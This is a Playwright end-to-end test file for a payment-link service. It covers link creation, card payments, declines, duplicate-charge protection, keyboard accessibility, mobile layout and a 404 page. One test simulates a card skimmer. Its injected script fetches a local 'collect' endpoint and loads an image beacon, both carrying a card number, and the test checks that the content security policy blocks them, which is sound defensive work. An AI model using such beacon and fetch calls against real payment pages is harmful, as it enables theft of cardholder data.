import { expect, test } from '@playwright/test';
import { CARDS, CCV, countPayments, createLink, dashboardUrl, fillCard, gatewayUrl, MERCHANT_SITE, payerPage, screenshot } from './support';

// A 1×1 PNG.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
test('staff create a payment link with a live preview; a payer pays it, and a double click charges once', async ({ page, browser }) => {
  await page.goto('/payment-links/new');
  const preview = page.locator('.preview');
  await page.getByLabel('Title').fill('Concert ticket');
  await page.getByLabel('Amount').fill('25');
  await page.getByLabel('Description').fill('Row A, seat 12');
  await expect(preview).toContainText('Concert ticket');
  await expect(preview).toContainText('A$25.00');
  await expect(preview).toContainText('Row A, seat 12');

  await page.getByLabel('Image').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('not an image') });
  await expect(page.getByText('The image must be one of')).toBeVisible();
  await page.getByLabel('Image').setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: PNG });
  await expect(preview.locator('img')).toHaveAttribute('src', /^data:image\/png;base64,/);
  await page.getByLabel('Donate').check();
  await expect(preview.getByRole('button')).toHaveText('Donate');
  await page.getByLabel('Limit of payments').fill('2');
  await page.getByLabel('Confirmation message').fill('See you at the show');
  await page.getByLabel('Redirect URL').fill(`${MERCHANT_SITE}/thanks`);
  await page.getByLabel('Invoice id').fill('INV-1001');
  await page.getByLabel('Metadata').fill('campaign=e2e');
  await screenshot(page, 'payment-link-new');
  await page.getByRole('button', { name: 'Create the payment link' }).click();

  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Concert ticket');
  const url = (await page.getByTestId('payment-link-url').textContent()) ?? '';
  expect(url).toMatch(new RegExp(`^${dashboardUrl}/pay/[0-9a-f]{32}$`));
  await expect(page.getByText('0 payments of at most 2.')).toBeVisible();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: dashboardUrl });
  await page.getByRole('button', { name: 'Copy link' }).click();
  await expect(page.getByRole('button', { name: 'Copy link' })).toContainText('copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(url);
  await screenshot(page, 'payment-link-detail');

  const payer = await payerPage(browser);
  const sent: Array<{ method: string; url: string; body: string }> = [];
  payer.on('request', (request) => sent.push({ method: request.method(), url: request.url(), body: request.postData() ?? '' }));
  await payer.goto(url);
  await expect(payer.getByRole('heading', { level: 1 })).toHaveText('Concert ticket');
  await expect(payer.getByText('A$25.00')).toBeVisible();
  await expect(payer.getByText('Row A, seat 12')).toBeVisible();
  await expect(payer.locator('img')).toBeVisible();
  await screenshot(payer, 'pay-page');
  await fillCard(payer, CARDS.approved);
  await expect(payer.getByText('Visa card')).toBeVisible();
  await payer.getByRole('button', { name: 'Donate' }).dblclick();

  await expect(payer.getByRole('heading', { name: 'Thank you for your donation' })).toBeFocused();
  await expect(payer.getByRole('status').filter({ hasText: 'See you at the show' })).toBeVisible();
  await screenshot(payer, 'pay-success');
  await payer.waitForURL(`${MERCHANT_SITE}/thanks`);

  // The card number and the CCV went to the gateway's tokenisation endpoint only, in no other
  // request's URL or body (the CCV as a value, or under its name), and the payment was sent once.
  const carries = (pattern: RegExp) => sent.filter((r) => pattern.test(r.url) || pattern.test(r.body)).map((r) => `${r.method} ${r.url}`);
  expect(carries(new RegExp(CARDS.approved))).toEqual([`POST ${gatewayUrl}/token/card`]);
  expect(carries(new RegExp(`ccv|cvv|cvc|["=:]\\s*"?${CCV}\\b`, 'i'))).toEqual([`POST ${gatewayUrl}/token/card`]);
  expect(sent.filter((r) => r.method === 'POST' && r.url.endsWith('/pay'))).toHaveLength(1);
  expect(await countPayments(url.split('/').pop() ?? '')).toBe(1);

  await page.reload();
  await expect(page.getByText('1 payment of at most 2.')).toBeVisible();
  await page.goto('/payment-links');
  await expect(page.getByRole('row', { name: /Concert ticket/ })).toContainText('1 of 2');
  await screenshot(page, 'payment-links');
  await payer.context().close();
});

test('a declined card gets a clear message and can be retried; a link at its limit says so', async ({ browser }) => {
  const link = await createLink({ limitPayments: 1, confirmationMessage: 'Booked' });
  const payer = await payerPage(browser);
  await payer.goto(link.url);
  await fillCard(payer, CARDS.insufficientFunds);
  await payer.getByRole('button', { name: 'Pay' }).click();
  // The page holds the public key, which is told that the card was declined, never why.
  const alert = payer.getByRole('alert').filter({ hasText: 'The card was declined' });
  await expect(alert).toContainText('You have not been charged');
  await expect(payer.getByLabel('Security code (CCV)')).toHaveValue('');
  await screenshot(payer, 'pay-declined');
  expect(await countPayments(link.paymentLinkId)).toBe(0);

  await payer.getByLabel('Card number').fill(CARDS.approved);
  await payer.getByLabel('Security code (CCV)').fill('123');
  await payer.getByRole('button', { name: 'Pay' }).click();
  await expect(payer.getByRole('heading', { name: 'Payment received' })).toBeVisible();
  await expect(payer.getByText('Booked')).toBeVisible();
  expect(await countPayments(link.paymentLinkId)).toBe(1);

  await payer.goto(link.url);
  await expect(payer.getByRole('main').getByRole('status')).toHaveText('This payment link is no longer accepting payments.');
  await expect(payer.getByLabel('Card number')).toHaveCount(0);
  await screenshot(payer, 'pay-sold-out');
  await payer.context().close();
});

test('a payment whose answer is lost is not charged twice when the payer tries again', async ({ browser }) => {
  const link = await createLink({ title: 'Flaky network' });
  const payer = await payerPage(browser);
  let tokenisations = 0;
  payer.on('request', (request) => void (request.url().endsWith('/token/card') && request.method() === 'POST' && (tokenisations += 1)));
  let lost = false;
  await payer.route('**/payment_link/*/pay', async (route) => {
    if (lost) return route.continue();
    lost = true;
    await route.fetch(); // the gateway takes the payment…
    await route.abort('connectionreset'); // …and its answer never reaches the payer
  });
  await payer.goto(link.url);
  await fillCard(payer, CARDS.approved);
  await payer.getByRole('button', { name: 'Pay' }).click();
  await expect(payer.getByRole('main').getByRole('alert')).toContainText('you will not be charged twice');
  expect(await countPayments(link.paymentLinkId)).toBe(1);

  await payer.getByRole('button', { name: 'Pay' }).click();
  await expect(payer.getByRole('heading', { name: 'Payment received' })).toBeVisible();
  expect(await countPayments(link.paymentLinkId)).toBe(1);
  expect(tokenisations).toBe(1);
  await payer.context().close();
});

test('the payment page works with the keyboard alone; errors are announced and focused', async ({ browser }) => {
  const link = await createLink({ title: 'Keyboard workshop' });
  const payer = await payerPage(browser);
  const tokenisations: string[] = [];
  payer.on(
    'request',
    (request) => request.url().endsWith('/token/card') && request.method() === 'POST' && tokenisations.push(request.url()),
  );
  await payer.goto(link.url);
  await expect(payer.getByRole('button', { name: 'Pay' })).toBeEnabled();

  await payer.keyboard.press('Tab');
  await expect(payer.getByLabel('Card number')).toBeFocused();
  await payer.keyboard.type(CARDS.luhnInvalid);
  await payer.keyboard.press('Tab');
  await expect(payer.getByLabel('Expiry date')).toBeFocused();
  await payer.keyboard.type('12/30');
  await payer.keyboard.press('Tab');
  await expect(payer.getByLabel('Security code (CCV)')).toBeFocused();
  await payer.keyboard.type('123');
  await payer.keyboard.press('Tab');
  await expect(payer.getByLabel('Name on card')).toBeFocused();
  await payer.keyboard.type('Kim Keys');
  await payer.keyboard.press('Tab');
  await expect(payer.getByRole('button', { name: 'Pay' })).toBeFocused();
  await payer.keyboard.press('Enter');

  // The Luhn check fails in the page: the error is announced, the field marked and focused, nothing sent.
  await expect(payer.getByRole('main').getByRole('alert')).toHaveText('Please correct: Card number.');
  const number = payer.getByLabel('Card number');
  await expect(number).toBeFocused();
  await expect(number).toHaveAttribute('aria-invalid', 'true');
  await expect(number).toHaveAccessibleDescription(/This card number is not valid/);
  expect(tokenisations).toEqual([]);
  await screenshot(payer, 'pay-invalid-card');

  await payer.keyboard.press('ControlOrMeta+a');
  await payer.keyboard.type(CARDS.approved);
  await payer.keyboard.press('Enter');
  await expect(payer.getByRole('heading', { name: 'Payment received' })).toBeFocused();
  expect(tokenisations).toHaveLength(1);
  await payer.context().close();
});

test('the payment page fits a 390 px phone', async ({ browser }) => {
  const link = await createLink({
    title: 'Phone case',
    description: 'A long description that has to wrap on a small screen without scrolling sideways.',
  });
  const payer = await payerPage(browser, { width: 390, height: 844 });
  await payer.goto(link.url);
  await expect(payer.getByRole('button', { name: 'Pay' })).toBeVisible();
  expect(await payer.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  const form = await payer.getByRole('form', { name: 'Card payment' }).boundingBox();
  expect(form?.width).toBeLessThanOrEqual(390);
  await screenshot(payer, 'pay-page-390');
  await payer.context().close();
});

test('the payment page may send what a payer types to the gateway only', async ({ browser }) => {
  const link = await createLink({ title: 'Policy check' });
  const payer = await payerPage(browser);
  // Another host that would take the data (an image, or a fetch it allows): nothing must reach it.
  const reached: string[] = [];
  await payer.context().route('http://127.0.0.1:3197/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'image/png', headers: { 'access-control-allow-origin': '*' }, body: PNG });
  });
  const response = await payer.goto(link.url);
  const policy = (await response?.headerValue('content-security-policy')) ?? '';
  expect(policy).toContain(`connect-src 'self' ${gatewayUrl}`);
  expect(policy).toContain("frame-ancestors 'none'");
  await expect(payer.getByRole('button', { name: 'Pay' })).toBeVisible();
  // A script that got into the page could neither fetch nor load an image from another host.
  const leaks = await payer.evaluate(async () => {
    const fetched = await fetch('http://127.0.0.1:3197/collect?card=4242').then(
      () => 'sent',
      () => 'blocked',
    );
    const image = await new Promise<string>((resolve) => {
      const img = new Image();
      img.onload = () => resolve('sent');
      img.onerror = () => resolve('blocked');
      img.src = 'http://127.0.0.1:3197/pixel.gif?card=4242';
    });
    return { fetched, image };
  });
  expect(leaks).toEqual({ fetched: 'blocked', image: 'blocked' });
  expect(reached).toEqual([]);
  await payer.context().close();
});

test('an unknown payment link says so', async ({ browser }) => {
  const payer = await payerPage(browser);
  const response = await payer.goto('/pay/0123456789abcdef0123456789abcdef');
  expect(response?.status()).toBe(404);
  await expect(payer.getByRole('heading', { level: 1 })).toHaveText('Payment link not found');
  await payer.context().close();
});
